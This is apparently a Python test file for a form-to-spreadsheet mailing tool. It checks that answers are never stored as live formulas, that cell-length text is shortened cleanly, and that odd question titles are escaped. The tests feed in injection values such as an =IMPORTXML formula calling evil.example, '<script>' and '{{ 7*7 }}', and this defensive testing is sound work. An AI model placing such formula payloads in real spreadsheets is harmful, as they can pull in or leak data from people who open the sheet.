"""Law 7 at its edges: formulas, a cell's whole length, titles of questions."""

from tests.world import FORM, World

LEARN = "What do you hope to learn?"


def test_an_answer_is_never_written_as_a_formula(world: World) -> None:
    world.apply("ana", **{"Your name": '=IMPORTXML("https://evil.example/","//a")'})
    world.work()
    world.decide("Accept", '=IMPORTXML("https://evil.example/","//a")')
    world.work()

    for title in ("Shortlist", "Outbox", "Activity"):
        place = f"/v4/spreadsheets/{world.workbook}/values/'{title}'?valueRenderOption=FORMULA"
        raw = world.wire.call("get", place)["values"]
        assert raw == world.values(title)
    cells = [cell for row in world.rows("Activity") for cell in row.values()]
    assert any("=IMPORTXML" in str(cell) for cell in cells)
    data = world.wire.call(
        "get", f"/v4/spreadsheets/{world.workbook}?includeGridData=true&ranges=Shortlist"
    )
    assert "formulaValue" not in str(data)


def test_a_text_as_long_as_a_cell_is_shortened_in_letters_and_breaks_nothing(world: World) -> None:
    essay = "wörd " * 9_998 + "the end..."
    world.apply("ana", **{LEARN: essay, "Your name": essay})
    world.apply("ben")

    world.work()

    (letter,) = world.mails("ana")
    assert "shortened here; we have the whole answer, 50,000 characters" in letter["text"]
    assert len(letter["subject"]) <= 200
    assert len(world.mails("ben")) == 1
    world.decide("Accept", world.rows("Shortlist")[0]["Name"])
    world.work()
    quiet = world.everything()
    world.work()
    assert world.everything() == quiet


def test_a_question_may_be_titled_with_anything(world: World) -> None:
    titles = ["<script>", "{{ 7*7 }}", "=A1", "Why\r\nso?", "👩‍💻", "x" * 50_000, "?"]
    world.add_form(
        FORM, ("Email", *titles), [world.now, "ana@example.org", *("yes" for _ in titles)]
    )

    world.work()

    (letter,) = world.mails("ana")
    assert "<script>" not in letter["html"]
    assert "{{ 7*7 }}" in letter["text"]
    assert len(world.rows("Questions")) == 1 + len(titles)
    before = world.everything()
    world.work()
    assert world.everything() == before
